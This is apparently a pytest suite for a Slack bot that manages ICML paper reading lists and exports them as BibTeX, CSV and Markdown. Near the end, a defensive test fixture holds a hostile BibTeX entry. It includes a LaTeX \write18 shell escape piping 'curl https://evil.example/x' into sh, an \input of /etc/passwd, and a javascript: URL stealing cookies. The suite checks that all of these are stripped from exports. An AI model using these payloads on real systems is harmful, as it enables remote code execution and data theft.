"""The channel's reading list and exports through the real app: commands, buttons, files uploaded to the fake Slack."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.support.block_checks import problems
from tests.support.fake_slack import FakeSlack
from tests.support.seed_ids import DEFENSIVE_KV, VEGAS
from tests.support.slack_clicks import press
from tests.support.slack_harness import SlackHttp, buttons, serving, texts
from tests.team.bibparse import parse_bibtex, parse_csv


def answer(fake: FakeSlack, name: str) -> dict[str, Any]:
    """What the app posted to the response_url called `name`."""
    return fake.wait_for(lambda c: c.method == "response" and c.name == name, ok=True)[-1].params


def save(slack_http: SlackHttp, fake: FakeSlack, query: str, paper_id: str, name: str, user: str = "U1") -> None:
    """Press Save on `paper_id` in the results of `/icml <query>` and wait until it is saved."""
    press(slack_http, fake, slack_http.command(query, user_id=user).json(), "Save", paper_id, user=user, name=name)
    answer(fake, name)


def test_list_add_tells_the_channel_and_list_shows_who_and_when(slack_http: SlackHttp) -> None:
    added = slack_http.command(f"list add {DEFENSIVE_KV}", user_id="U042").json()
    assert added["response_type"] == "in_channel"
    assert "<@U042> added" in texts(added)
    assert "DefensiveKV" in texts(added)
    # By name, a second time
    again = slack_http.command("list add defensivekv", user_id="U7").json()
    assert again["response_type"] == "ephemeral"
    assert "already on this channel's reading list (added by <@U042>" in texts(again)
    slack_http.command(f"list add {VEGAS}", user_id="U7")
    shown = slack_http.command("list").json()
    assert shown["response_type"] == "ephemeral"
    assert "*This channel's reading list* (2)" in texts(shown)
    body = texts(shown)
    assert body.index("Vegas") < body.index("DefensiveKV")  # newest first
    assert "added by <@U042> on" in body
    assert [b["text"]["text"] for b in buttons(shown)] == ["Similar", "Save", "Remove"] * 2
    assert problems(shown) == []


def test_a_channel_never_sees_another_channels_list(slack_http: SlackHttp) -> None:
    slack_http.command(f"list add {DEFENSIVE_KV}", channel_id="C1")
    assert "reading list is empty" in texts(slack_http.command("list", channel_id="C2").json())
    assert "reading list is empty" in texts(slack_http.command("list", team_id="T2").json())
    assert "is not on this channel's reading list" in texts(
        slack_http.command(f"list remove {DEFENSIVE_KV}", channel_id="C2").json()
    )
    assert "(1)" in texts(slack_http.command("list", channel_id="C1").json())


def test_list_remove_by_command_and_by_button(slack_http: SlackHttp, fake: FakeSlack) -> None:
    slack_http.command(f"list add {DEFENSIVE_KV}")
    slack_http.command(f"list add {VEGAS}")
    removed = slack_http.command(f"list remove {DEFENSIVE_KV}", user_id="U9").json()
    assert removed["response_type"] == "in_channel"
    assert "<@U9> removed" in texts(removed)
    press(slack_http, fake, slack_http.command("list").json(), "Remove", VEGAS, name="rm")
    rebuilt = answer(fake, "rm")
    assert rebuilt["replace_original"] is True
    assert "reading list is empty" in texts(rebuilt)


def test_add_to_channel_list_button_on_a_shared_paper(slack_http: SlackHttp, fake: FakeSlack) -> None:
    press(slack_http, fake, slack_http.command("kv cache").json(), "Share to channel", DEFENSIVE_KV, name="share")
    shared = answer(fake, "share")
    press(slack_http, fake, shared, "Add to channel list", DEFENSIVE_KV, user="U5", ephemeral=False, name="add")
    told = answer(fake, "add")
    assert (told["response_type"], told["replace_original"]) == ("in_channel", False)
    assert "<@U5> added" in texts(told)
    press(slack_http, fake, shared, "Add to channel list", DEFENSIVE_KV, user="U6", ephemeral=False, name="add2")
    second = answer(fake, "add2")
    assert second["response_type"] == "ephemeral"
    assert "already on this channel's reading list (added by <@U5>" in texts(second)


def test_bad_list_input_gets_one_clear_line(slack_http: SlackHttp) -> None:
    assert "No paper has the id or name *nosuchpaper*" in texts(slack_http.command("list add nosuchpaper").json())
    assert "Usage: `/icml list" in texts(slack_http.command("list frobnicate").json())
    assert "Usage: `/icml list export bibtex`" in texts(slack_http.command("list export pdf").json())
    assert "Usage: `/icml export bibtex`" in texts(slack_http.command("export docx").json())
    assert "Usage: `/icml export" in texts(slack_http.command("export").json())


# --------------------------------------------------------------------------- exports


def test_export_bibtex_uploads_a_file_to_the_users_dm(slack_http: SlackHttp, fake: FakeSlack) -> None:
    save(slack_http, fake, "kv cache", DEFENSIVE_KV, "a")
    save(slack_http, fake, "speculative decoding", VEGAS, "b")
    reply = slack_http.command("export bibtex", response_url=fake.response_url("exp")).json()
    assert reply["response_type"] == "ephemeral"
    assert "Sending 2 papers as `icml-saved-papers.bib` to our DM" in texts(reply)
    assert "```@" in texts(reply)  # a handful: also a code block
    fake.wait_for("files.completeUploadExternal", ok=True)
    [opened] = fake.calls("conversations.open")
    assert opened.params["users"] == "U1"
    [sent] = fake.shared_files()
    assert sent.channel == "D1"
    assert sent.filename == "icml-saved-papers.bib"
    entries = parse_bibtex(sent.text)
    assert len(entries) == 2
    assert {e.kind for e in entries} <= {"inproceedings", "misc"}
    assert any("DefensiveKV" in e.title for e in entries)
    assert len({e.key for e in entries}) == 2


def test_export_csv_and_markdown(slack_http: SlackHttp, fake: FakeSlack) -> None:
    save(slack_http, fake, "kv cache", DEFENSIVE_KV, "a")
    slack_http.command("export csv")
    fake.wait_for("files.completeUploadExternal", ok=True)
    slack_http.command("export md")
    fake.wait_for("files.completeUploadExternal", count=2, ok=True)
    csv_file, md_file = fake.shared_files()
    header, rows = parse_csv(csv_file.text)
    assert header[:2] == ["id", "title"]
    assert [r["id"] for r in rows] == [DEFENSIVE_KV]
    assert rows[0]["saved_at"].endswith("Z")
    assert md_file.filename == "icml-saved-papers.md"
    assert "DefensiveKV" in md_file.text


def test_list_export_posts_the_file_in_the_channel(slack_http: SlackHttp, fake: FakeSlack) -> None:
    slack_http.command(f"list add {DEFENSIVE_KV}", user_id="U3")
    reply = slack_http.command("list export bibtex", user_id="U4").json()
    assert "to this channel" in texts(reply)
    fake.wait_for("files.completeUploadExternal", ok=True)
    [sent] = fake.shared_files()
    assert sent.channel == "C1"
    assert "<@U4>" in sent.initial_comment
    [entry] = parse_bibtex(sent.text)
    assert "DefensiveKV" in entry.title
    assert not fake.calls("conversations.open")


def test_list_export_where_the_bot_is_not_a_member_says_what_to_do(slack_http: SlackHttp, fake: FakeSlack) -> None:
    fake.set_channel("C1", is_member=False)
    slack_http.command(f"list add {DEFENSIVE_KV}")
    slack_http.command("list export csv", response_url=fake.response_url("exp"))
    told = answer(fake, "exp")
    assert "not_in_channel" in texts(told)
    assert "/invite @icml-bot" in texts(told)
    assert fake.shared_files() == []


def test_nothing_to_export_uploads_nothing(slack_http: SlackHttp, fake: FakeSlack) -> None:
    assert "no saved papers to export" in texts(slack_http.command("export bibtex").json())
    assert "reading list is empty" in texts(slack_http.command("list export bibtex").json())
    slack_http.drain()
    assert not fake.calls("files.getUploadURLExternal")


def test_an_export_of_many_papers_is_a_file_without_a_code_block(slack_http: SlackHttp, fake: FakeSlack) -> None:
    from bot.team import saves

    ids = [
        str(b["value"])
        for b in buttons(slack_http.command(f"similar {DEFENSIVE_KV}").json())
        if b["action_id"] == "paper_similar"
    ]
    for n, paper_id in enumerate([DEFENSIVE_KV, VEGAS, *ids]):
        saves.save(slack_http.state, "T1", "U1", paper_id, 1_700_000_000.0 + n)
    reply = slack_http.command("export bibtex").json()
    assert "```" not in texts(reply)
    fake.wait_for("files.completeUploadExternal", ok=True)
    [sent] = fake.shared_files()
    assert len(parse_bibtex(sent.text)) == len({DEFENSIVE_KV, VEGAS, *ids})


def test_two_hundred_listed_papers_page_within_block_kit_limits(slack_http: SlackHttp, fake: FakeSlack) -> None:
    from bot.team import reading_list

    ids = [f"gone{i:03d}" for i in range(198)] + [DEFENSIVE_KV, VEGAS]
    for n, paper_id in enumerate(ids):
        reading_list.add(slack_http.state, "T1", "C1", f"U{n % 7}", paper_id, 1_700_000_000.0 + n)
    seen: list[str] = []
    page = slack_http.command("list").json()
    for n in range(25):
        assert problems(page) == [], problems(page)
        seen += [b["value"].split('"p":"')[1].split('"')[0] for b in buttons(page) if b["text"]["text"] == "Remove"]
        if not [b for b in buttons(page) if b["text"]["text"] == "Next"]:
            break
        press(slack_http, fake, page, "Next", name=f"p{n}")
        page = answer(fake, f"p{n}")
    assert len(seen) == 200
    assert seen[:2] == [VEGAS, DEFENSIVE_KV]
    assert len(set(seen)) == 200


def test_an_export_names_the_papers_gone_from_the_index(slack_http: SlackHttp, fake: FakeSlack) -> None:
    from bot.team import saves

    saves.save(slack_http.state, "T1", "U1", DEFENSIVE_KV, 1_700_000_000.0)
    saves.save(slack_http.state, "T1", "U1", "gone0001", 1_700_000_001.0)
    reply = slack_http.command("export bibtex").json()
    assert "Sending 1 paper as" in texts(reply)
    assert "Left out 1 no longer in the index: `gone0001`" in texts(reply)
    fake.wait_for("files.completeUploadExternal", ok=True)
    [sent] = fake.shared_files()
    assert len(parse_bibtex(sent.text)) == 1


# --------------------------------------------------------------------------- exports of hostile lists (issue 39)

HOSTILE_BIB = (
    "@inproceedings{pwn2026, title={\\input{/etc/passwd}}, author={Eve}, year={2026}, "
    "booktitle={\\immediate\\write18{curl https://evil.example/x | sh}}, url={javascript:alert(document.cookie)}}"
)
ABSTRACT = "We make tokenizers robust to code, and measure how much they keep on real repositories. " * 3


def test_a_lists_own_bibtex_never_reaches_the_export_or_the_reply(fake: FakeSlack, tmp_path: Path) -> None:
    paper = {
        "id": "EVILBIB1",
        "title": "Robust Tokenizers for Code",
        "abstract": ABSTRACT,
        "authors": ["Ada Lovelace"],
        "url": "https://openreview.net/forum?id=EVILBIB1",
        "bibtex": HOSTILE_BIB,
    }
    with serving(fake, tmp_path, [paper]) as served:
        served.command("list add EVILBIB1")
        reply = served.command("list export bibtex").json()
        fake.wait_for("files.completeUploadExternal", ok=True)
        [sent] = fake.shared_files()
    assert "```@inproceedings" in texts(reply)  # the reply's code block: the bot's entry
    for shown in (texts(reply), sent.text):
        for bad in ("\\input", "\\immediate", "\\write18", "javascript:", "/etc/passwd", "evil.example"):
            assert bad not in shown
    [entry] = parse_bibtex(sent.text)
    assert (entry.key, entry.title, entry.authors) == ("pwn2026", "Robust Tokenizers for Code", ["Ada Lovelace"])
    assert entry.fields["url"] == "https://openreview.net/forum?id=EVILBIB1"


def test_a_title_with_backticks_cannot_end_the_replys_code_block(fake: FakeSlack, tmp_path: Path) -> None:
    paper = {
        "id": "TICKS001",
        "title": "Fenced ``` *Out* of the Block ``` and <!here> @channel",
        "abstract": ABSTRACT,
        "authors": ["Ada Lovelace"],
    }
    with serving(fake, tmp_path, [paper]) as served:
        served.command("list add TICKS001")
        replies = [served.command(f"list export {kind}").json() for kind in ("bibtex", "csv", "md")]
        fake.wait_for("files.completeUploadExternal", count=3, ok=True)
        # Uploads run in parallel: any order
        files = sorted(fake.shared_files(), key=lambda f: f.filename)
    for reply in replies:
        assert problems(reply) == []
        assert "Sending 1 paper as `icml-reading-list." in texts(reply)
        for block in reply["blocks"]:
            text = block["text"]["text"]
            fences = text.count("```")
            assert fences == 0 or (fences == 2 and text.startswith("```") and text.endswith("```")), text
    bib, csv = (next(f for f in files if f.filename.endswith(end)) for end in (".bib", ".csv"))
    # The files hold it whole
    assert [len(parse_bibtex(bib.text)), len(parse_csv(csv.text)[1])] == [1, 1]
    assert "Fenced ``` Out of the Block ```" in parse_csv(csv.text)[1][0]["title"]
